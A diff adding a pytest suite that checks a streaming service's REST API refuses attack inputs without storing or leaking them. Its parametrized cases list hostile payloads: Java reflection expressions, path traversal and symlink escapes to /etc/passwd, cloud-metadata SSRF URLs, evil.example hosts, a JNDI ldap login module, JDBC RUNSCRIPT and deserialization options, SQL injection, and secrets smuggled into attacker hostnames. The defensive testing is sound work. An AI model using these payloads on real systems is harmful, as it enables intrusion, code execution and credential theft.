@@ -1,0 +1,476 @@
+"""What a client may try, over REST: every attack is refused, by field, and nothing is kept of it.
+
+On the service of commit a5a3955 each of them was accepted (201 or 202).
+"""
+
+from __future__ import annotations
+
+import json
+from contextlib import contextmanager
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from anabranch_planner.access.policy import AccessPolicy
+from anabranch_planner.exchange import Mode
+from anabranch_service.records import QueryRecord, SinkRecord, SourceRecord, StreamRecord
+from anabranch_service.settings import Settings
+from tests.service.conftest import PAIR
+from tests.support.service import Service, serving
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+COLUMNS = {"a": "string"}
+SECRET = "hunter2-of-the-test"
+
+
+@pytest.fixture(scope="module")
+def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The one directory that may be read, with links that lead out of it."""
+    tmp_path = tmp_path_factory.mktemp("attacks")
+    home = tmp_path / "home"
+    (home / "in").mkdir(parents=True)
+    (home / "state").mkdir()
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "secret").write_text(SECRET)
+    (home / "link").symlink_to(tmp_path / "outside")
+    (home / "dangling").symlink_to(tmp_path / "nothing")
+    (home / "in" / "up").symlink_to("../..")
+    return home
+
+
+@pytest.fixture(scope="module")
+def guarded(redis: str, root: Path) -> Iterator[Service]:
+    access = AccessPolicy(
+        paths=(str(root),),
+        reserved=(str(root / "state"),),
+        read_only=(str(root / "in"),),
+        hosts=("broker.lan:9092", "*.db.lan"),
+    )
+    with _shop(redis, "guarded", access) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def databases(redis: str) -> Iterator[Service]:
+    """A service that takes sinks of format jdbc."""
+    access = AccessPolicy(formats=frozenset({"jdbc"}), hosts=("*.db.lan",))
+    with _shop(redis, "databases", access) as running:
+        yield running
+
+
+@contextmanager
+def _shop(redis: str, namespace: str, access: AccessPolicy) -> Iterator[Service]:
+    settings = Settings(redis_url=redis, namespace=namespace, mode=Mode.STEP, access=access)
+    with serving(settings) as running:
+        for stream in ("customers", "orders"):
+            columns = {"customer_id": "bigint", "order_id": "bigint", "city": "string"}
+            running.post("/v1/streams", {"name": stream, "columns": columns})
+        yield running
+
+
+def refused_source(
+    service: Service, format: str, path: str | None = None, **options: str
+) -> dict[str, Any]:
+    source = {"format": format, "path": path, "options": _dotted(options)}
+    body = {"name": "s", "columns": COLUMNS, "source": source}
+    if format == "recorded":
+        source["rows_per_batch"] = 1  # type: ignore[assignment]
+    return _refused(service, "/v1/streams", body)
+
+
+def refused_sink(
+    service: Service, format: str, path: str | None = None, **options: str
+) -> dict[str, Any]:
+    sink = {"format": format, "path": path, "options": _dotted(options)}
+    return _refused(service, "/v1/queries", {"id": "q", "sql": PAIR, "sink": sink})
+
+
+def _refused(service: Service, path: str, body: dict[str, Any]) -> dict[str, Any]:
+    before = len(service.get(path)["items"])
+    problem = service.post(path, body, 422)
+    assert len(service.get(path)["items"]) == before
+    assert problem["errors"][0]["field"]
+    assert problem["remedy"]
+    assert SECRET not in json.dumps(problem)
+    return problem
+
+
+def _dotted(options: dict[str, str]) -> dict[str, str]:
+    return {name.replace("__", "."): text for name, text in options.items()}
+
+
+@pytest.mark.parametrize(
+    "expression",
+    [
+        "reflect('java.lang.System', 'getenv', 'HOME')",
+        "REFLECT ('java.lang.System', 'getenv', 'HOME')",
+        "java_method('java.lang.Runtime', 'getRuntime')",
+        "try_reflect('java.lang.System', 'exit', 1)",
+        "`reflect`('java.lang.System', 'getenv', 'HOME')",
+        "system.builtin.reflect('java.lang.System', 'getenv', 'HOME')",
+        "/**/reflect/**/('java.lang.System', 'getenv', 'HOME')",
+        "concat(value, reflect('java.lang.System', 'getenv', 'HOME'))",
+        "CASE WHEN value = '' THEN '' ELSE input_file_name() END",
+        "(SELECT max(value) FROM text.`/etc/passwd`)",
+        "value IN (SELECT value FROM text.`/etc/passwd`)",
+        "_metadata.file_path",
+        "value) AS a, reflect('x', 'y') AS (b",
+        "transform(array(value), x -> reflect('a', 'b', x))[0]",
+        "value; DROP TABLE x",
+        "session_user()",
+        "{{ value }}",
+        "from_json(value, 'a int')",
+    ],
+)
+def test_an_expression_of_a_source_runs_nothing(guarded: Service, expression: str) -> None:
+    problem = refused_source(guarded, "kafka", column__a=expression, subscribe="x")
+    assert problem["errors"][0]["field"] == "source.options.column.a"
+
+
+@pytest.mark.parametrize(
+    ("name", "options"),
+    [
+        ("schema", {"schema": "a int) , b string"}),
+        ("schema", {"schema": "a struct<b: int>"}),
+        ("schema", {"schema": "a int comment 'x'"}),
+        ("schema", {"schema": "a int generated always as (reflect('a', 'b'))"}),
+        ("Column.a", {"Column.a": "reflect('a', 'b')"}),
+        ("PATH", {"PATH": "/etc"}),
+        ("Path", {"Path": "/etc"}),
+        ("sourceArchiveDir", {"cleanSource": "archive", "sourceArchiveDir": "/etc"}),
+        ("cleanSource", {"cleanSource": "delete"}),
+        ("rowValidationXSDPath", {"rowValidationXSDPath": "/etc/passwd"}),
+        ("fs.s3a.endpoint", {"fs.s3a.endpoint": "http://169.254.169.254"}),
+        ("compression", {"compression": "com.example.Codec"}),
+        ("recursiveFileLookup", {"recursiveFileLookup": "true"}),
+    ],
+)
+def test_options_of_files_are_those_on_the_list(
+    guarded: Service, root: Path, name: str, options: dict[str, str]
+) -> None:
+    found = refused_source(guarded, "csv", str(root / "in"), **options)
+    assert found["errors"][0]["field"].startswith("source.options.")
+
+
+PATHS = [
+    "/etc",
+    "{root}/../outside",
+    "{root}/in/../../outside",
+    "{root}/link",
+    "{root}/link/.",
+    "{root}/dangling",
+    "{root}/in/up/outside",
+    "{root}/state",
+    "{root}/in/../state",
+    "{root}x",
+    "file:///etc",
+    "FILE:///etc",
+    "file:/etc",
+    "file://localhost/etc",
+    "file:etc",
+    "//etc",
+    "/{{etc,tmp}}",
+    "{root}/../out*",
+    "{root}/[i]n",
+    "{root}/i?",
+    "{root}/in\\x",
+    "hdfs://elsewhere/x",
+    "hdfs:///x",
+    "s3a://bucket/x",
+    "s3a://key:pw@broker.lan/x",
+    "http://169.254.169.254/latest",
+    "jar:file:/etc/x!/y",
+    "data:text/plain,x",
+    "..",
+    "../../../../../../etc",
+    "\n/etc",
+    "{root}/in\u0000/../../outside",
+]
+
+
+@pytest.mark.parametrize("text", PATHS)
+@pytest.mark.parametrize("format", ["text", "csv"])
+def test_no_file_outside_is_read(guarded: Service, root: Path, format: str, text: str) -> None:
+    columns = {"column.a": "value"} if format == "text" else {}
+    refused_source(guarded, format, text.format(root=root), **columns)
+
+
+@pytest.mark.parametrize("text", [p for p in PATHS if not set(p) & set("*?[{\\") or "{root}" in p])
+@pytest.mark.parametrize("format", ["files", "recorded"])
+def test_no_file_outside_is_read_by_our_own_sources(
+    guarded: Service, root: Path, format: str, text: str
+) -> None:
+    if set(text.format(root=root)) & set("*?[\\"):
+        pytest.skip("these characters stand for themselves there")
+    refused_source(guarded, format, text.format(root=root))
+
+
+@pytest.mark.parametrize("text", [*PATHS, "{root}/in/x"])
+def test_no_file_outside_is_written(guarded: Service, root: Path, text: str) -> None:
+    problem = refused_sink(guarded, "json", text.format(root=root))
+    assert problem["errors"][0]["field"] == "sink.path"
+
+
+def test_a_refusal_does_not_say_whether_a_file_exists(guarded: Service, root: Path) -> None:
+    there = refused_source(guarded, "csv", str(root.parent / "outside"))
+    gone = refused_source(guarded, "csv", str(root.parent / "nothing"))
+    linked = refused_source(guarded, "csv", str(root / "link"))
+    dangling = refused_source(guarded, "csv", str(root / "dangling"))
+    assert there == gone == linked == dangling
+
+
+@pytest.mark.parametrize(
+    "format",
+    [
+        "jdbc",
+        "socket",
+        "binaryFile",
+        "Text",
+        "org.apache.spark.sql.execution.datasources.text.TextFileFormat",
+        "anabranch-feeds",
+        "noop",
+        "console",
+        "memory",
+        "image",
+        "delta ",
+    ],
+)
+def test_formats_are_those_on_the_list(guarded: Service, root: Path, format: str) -> None:
+    source = refused_source(guarded, format, str(root / "in"))
+    assert (source["code"], "--allow-format" in source["remedy"]) == ("format-not-allowed", True)
+    refused_sink(guarded, format)
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "{ns}:queries",
+        "{ns}:streams",
+        "{ns}:runtime",
+        "{ns}:x,{ns}:stream:y",
+        "{ns}",
+        "a, {ns}:gate",
+    ],
+)
+@pytest.mark.parametrize("url", [None, "redis://localhost:6379/0", "redis://127.0.0.1/0"])
+def test_keys_of_the_pipeline_are_reserved(guarded: Service, key: str, url: str | None) -> None:
+    ns = guarded.settings.namespace
+    given = {"keys": key.format(ns=ns)} | ({} if url is None else {"url": url})
+    problem = refused_source(guarded, "redis-stream", **given)
+    assert problem["code"] == "reserved-key"
+    stream = key.format(ns=ns).split(",")[-1].strip()
+    if not stream.startswith(f"{ns}:stream:"):
+        refused_sink(guarded, "redis-stream", stream=stream)
+
+
+def test_a_push_to_an_older_record_can_not_lock_the_registry(guarded: Service) -> None:
+    keys = f"{guarded.settings.namespace}:settings"
+    _old_stream(guarded, SourceRecord(format="redis-stream", options={"keys": keys}))
+    problem = guarded.post("/v1/streams/old/rows", {"rows": [{"a": "x"}]}, 422)
+    assert problem["code"] == "reserved-key"
+    assert guarded.redis.exists(keys) == 0
+    guarded.get("/v1/streams")
+
+
+def test_a_push_to_a_key_of_another_type_is_the_stream_s_own_problem(guarded: Service) -> None:
+    guarded.redis.hset("taken", "a", "b")
+    body = {"name": "s", "columns": COLUMNS}
+    source = {"format": "redis-stream", "options": {"keys": "taken"}}
+    guarded.post("/v1/streams", {**body, "source": source})
+    problem = guarded.post("/v1/streams/s/rows", {"rows": [{"a": "x"}]}, 409)
+    assert (problem["code"], "taken" in problem["detail"]) == ("not-a-redis-stream", True)
+    guarded.redis.delete("taken")
+
+
+HOSTS = [
+    ("redis-stream", "url", "redis://evil.example:6379/0"),
+    ("redis-stream", "url", "redis://localhost@evil.example/0"),
+    ("redis-stream", "url", "redis://broker.lan:9093/0"),
+    ("redis-stream", "url", "redis://localhost.evil.example/0"),
+    ("redis-stream", "url", "redis://0x7f000001/0"),
+    ("redis-stream", "url", "redis://localhost/0?ssl_keyfile=/etc/passwd"),
+    ("redis-stream", "url", "redis://localhost/0?host=evil.example"),
+    ("redis-stream", "url", "unix:///etc/redis.sock"),
+    ("redis-stream", "url", "http://localhost/"),
+    ("redis-stream", "url", "redis://"),
+    ("redis-stream", "url", "redis://evil%2eexample/"),
+    ("kafka", "kafka.bootstrap.servers", "evil.example:9092"),
+    ("kafka", "kafka.bootstrap.servers", "broker.lan:9092,evil.example:9092"),
+    ("kafka", "kafka.bootstrap.servers", "broker.lan:9093"),
+    ("kafka", "kafka.bootstrap.servers", "SSL://evil.example:9092"),
+    ("kafka", "kafka.bootstrap.servers", "broker.lan"),
+    ("kafka", "kafka.bootstrap.servers", "http://169.254.169.254:80"),
+    ("kafka", "kafka.interceptor.classes", "x.Y"),
+    ("kafka", "kafka.sasl.login.callback.handler.class", "x.Y"),
+    ("kafka", "kafka.ssl.keystore.location", "/etc/passwd"),
+    ("kafka", "KAFKA.SSL.TRUSTSTORE.LOCATION", "/etc/passwd"),
+    ("kafka", "kafka.metric.reporters", "x.Y"),
+    ("kafka", "kafka.sasl.client.callback.handler.class", "x.Y"),
+    ("kafka", "kafka.config.providers", "file"),
+    (
+        "kafka",
+        "kafka.sasl.jaas.config",
+        "com.sun.security.auth.module.JndiLoginModule required"
+        ' user.provider.url="ldap://evil" password="${ANABRANCH_KIND_X}";',
+    ),
+]
+
+
+@pytest.mark.parametrize(("format", "name", "text"), HOSTS)
+@pytest.mark.parametrize("kind", ["source", "sink"])
+def test_no_host_class_or_file_is_reached_by_an_option(
+    guarded: Service, kind: str, format: str, name: str, text: str
+) -> None:
+    kafka = {"column.a": "topic"} if kind == "source" else {"topic": "t"}
+    others = kafka if format == "kafka" else {}
+    options = {**others, name: text.replace("KIND", kind.upper())}
+    refuse = refused_source if kind == "source" else refused_sink
+    problem = refuse(guarded, format, None, **options)
+    assert problem["errors"][0]["field"] == f"{kind}.options.{name}"
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"url": f"jdbc:postgresql://me:{SECRET}@x.db.lan/d"},
+        {"url": f"jdbc:postgresql://x.db.lan/d?password={SECRET}"},
+        {"url": f"jdbc:sqlserver://x.db.lan;databaseName=d;password={SECRET}"},
+        {"password": SECRET},
+        {"PASSWORD": SECRET},
+        {"url": "jdbc:postgresql://evil.example/d"},
+        {"url": "jdbc:postgresql://x.db.lan,evil.example/d"},
+        {"url": "jdbc:postgresql://x.db.lan/d?socketFactory=x.Y&socketFactoryArg=z"},
+        {"url": "jdbc:postgresql://x.db.lan/d?sslkey=%2fetc%2fpasswd"},
+        {"url": "jdbc:mysql://x.db.lan/d?autoDeserialize=true"},
+        {"url": "jdbc:mysql://x.db.lan/d?allowLoadLocalInfile=true"},
+        {"url": "jdbc:mysql://address=(host=evil.example)(port=3306)/d"},
+        {"url": "jdbc:mysql://(host=evil.example,port=3306)/d"},
+        {"url": "jdbc:mysql:loadbalance://evil.example/d"},
+        {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'"},
+        {"url": "jdbc:derby:/etc/x;create=true"},
+        {"url": "jdbc:derby:memory:x;slaveHost=evil.example"},
+        {"url": "jdbc:sqlite:/etc/x"},
+        {"driver": "x.Y"},
+        {"dbtable": "t; DROP TABLE x"},
+        {"dbtable": "(SELECT 1) x"},
+        {"sessionInitStatement": "DROP TABLE x"},
+        {"createTableOptions": "DATA DIRECTORY '/etc'"},
+        {"anabranch.batchColumn": 'x" = "x" OR 1=1 --'},
+    ],
+)
+def test_a_database_is_reached_in_plain_ways_only(
+    databases: Service, options: dict[str, str]
+) -> None:
+    given = {"url": "jdbc:postgresql://x.db.lan/d", "dbtable": "t", **options}
+    refused_sink(databases, "jdbc", None, **given)
+
+
+def test_a_database_that_is_allowed_is_taken(databases: Service) -> None:
+    options = {
+        "url": "jdbc:postgresql://a.db.lan:5432/d?sslmode=require",
+        "dbtable": "public.t",
+        "user": "me",
+        "password": "${ANABRANCH_SINK_PW}",
+    }
+    sink = {"format": "jdbc", "options": options}
+    assert databases.post("/v1/queries", {"sql": PAIR, "sink": sink})["sink"]["options"] == options
+
+
+@pytest.mark.parametrize(
+    ("format", "name", "text"),
+    [
+        ("redis-stream", "url", f"redis://:{SECRET}@localhost:6379/0"),
+        ("redis-stream", "url", f"redis://me:{SECRET}@localhost:6379/0"),
+        ("redis-stream", "url", f"redis://localhost:6379/0?password={SECRET}"),
+        ("kafka", "kafka.ssl.key.password", SECRET),
+        (
+            "kafka",
+            "kafka.sasl.jaas.config",
+            "org.apache.kafka.common.security.plain.PlainLoginModule required"
+            f' username="u" password="{SECRET}";',
+        ),
+        ("csv", "nullValue", "${ANABRANCH_KIND_PASSWORD}"),
+        ("csv", "nullValue", "x${ANABRANCH_KIND_PASSWORD}y"),
+        ("csv", "nullValue", "${ANABRANCH_${ANABRANCH_KIND_X}}"),
+        ("csv", "NULLVALUE", "${ANABRANCH_KIND_PASSWORD}"),
+        ("csv", "quote", "${HOME}"),
+        ("csv", "timestampFormat", "'${ANABRANCH_KIND_PASSWORD}'"),
+        ("kafka", "kafka.client.id", "${ANABRANCH_KIND_PASSWORD}"),
+        ("kafka", "kafka.bootstrap.servers", "${ANABRANCH_KIND_X}.evil.example:9092"),
+        ("redis-stream", "url", "redis://${ANABRANCH_KIND_PASSWORD}.evil.example:6379/0"),
+        ("redis-stream", "url", "redis://:${ANABRANCH_KIND_PASSWORD}@evil.example:6379/0"),
+        ("redis-stream", "url", "redis://:${ANABRANCH_OTHER_PASSWORD}@localhost:6379/0"),
+        ("redis-stream", "url", "redis://:${anabranch_kind_password}@localhost:6379/0"),
+        ("redis-stream", "url", "redis://:${ANABRANCH_REDIS_URL}@localhost:6379/0"),
+    ],
+)
+@pytest.mark.parametrize("kind", ["source", "sink"])
+def test_secrets_are_references_in_options_for_secrets(
+    guarded: Service, root: Path, kind: str, format: str, name: str, text: str
+) -> None:
+    refuse = refused_source if kind == "source" else refused_sink
+    path = str(root / ("in" if kind == "source" else "out")) if format == "csv" else None
+    options = {name: text.replace("KIND", kind.upper()).replace("kind", kind)}
+    problem = refuse(guarded, format, path, **options)
+    assert problem["errors"][0]["field"] == f"{kind}.options.{name}"
+
+
+def test_secrets_of_older_records_are_not_shown(guarded: Service) -> None:
+    url, options = f"redis://me:{SECRET}@localhost/0", {"kafka.ssl.key.password": SECRET}
+    _old_stream(guarded, SourceRecord(format="redis-stream", options={"url": url}))
+    made = guarded.post("/v1/queries", {"id": "q", "sql": PAIR})
+    kept = json.loads(str(guarded.redis.hget(guarded.keys.queries, "q")))
+    jdbc = f"jdbc:sqlserver://x;user=u;password={SECRET};encrypt=true"
+    for name, sink in {
+        "q": SinkRecord(format="kafka", options=options),
+        "r": SinkRecord(format="jdbc", options={"url": jdbc}),
+    }.items():
+        record = QueryRecord.model_validate({**kept, "id": name, "sink": sink.model_dump()})
+        guarded.redis.hset(guarded.keys.queries, name, record.model_dump_json())
+    assert made["sink"]["format"] == "parquet"
+    shown = [
+        guarded.get(f"/v1/{part}") for part in ("streams", "queries", "queries/q", "streams/old")
+    ]
+    shown.append(guarded.get("/v1/queries/r"))
+    assert SECRET not in json.dumps(shown)
+    assert "password=***;encrypt=true" in json.dumps(shown)
+    # What else may be changed of them may still be.
+    changed = guarded.call("PATCH", "/v1/streams/old", 200, {"on_loss": "skip"})
+    assert SECRET not in json.dumps(changed)
+
+
+def test_what_is_allowed_goes_through(guarded: Service, root: Path) -> None:
+    kafka = {"kafka.bootstrap.servers": "broker.lan:9092,[::1]:9092", "subscribe": "x"}
+    for number, source in enumerate(
+        [
+            {"format": "csv", "path": str(root / "in"), "options": {"header": "true"}},
+            {"format": "csv", "path": f"file://{root}/in/../in"},
+            {"format": "files", "path": str(root)},
+            {"format": "kafka", "options": {**kafka, "column.a": "cast(value as string)"}},
+            {
+                "format": "redis-stream",
+                "options": {"url": "redis://:${ANABRANCH_SOURCE_PW}@localhost"},
+            },
+            {"format": "redis-stream", "options": {"url": "${ANABRANCH_SOURCE_URL}"}},
+            {"format": "redis-stream", "options": {"keys": "orders,other:queries"}},
+        ]
+    ):
+        body = {"name": f"s{number}", "columns": COLUMNS, "source": source}
+        guarded.post("/v1/streams", body)
+    for sink in (
+        {"format": "json", "path": str(root / "out")},
+        {"format": "redis-stream", "options": {"stream": "results"}},
+        {"format": "redis-stream", "options": {"url": guarded.settings.redis_url}},
+        {"format": "csv", "path": str(root / "o2"), "options": {"nullValue": "none", "sep": ";"}},
+    ):
+        guarded.post("/v1/queries", {"sql": PAIR, "sink": sink})
+
+
+def _old_stream(service: Service, source: SourceRecord) -> None:
+    """A record as an earlier release may have taken it."""
+    columns = [{"name": "a", "type": "string"}]
+    record = StreamRecord.model_validate({"name": "old", "columns": columns, "source": source})
+    service.redis.hset(service.keys.streams, "old", record.model_dump_json())
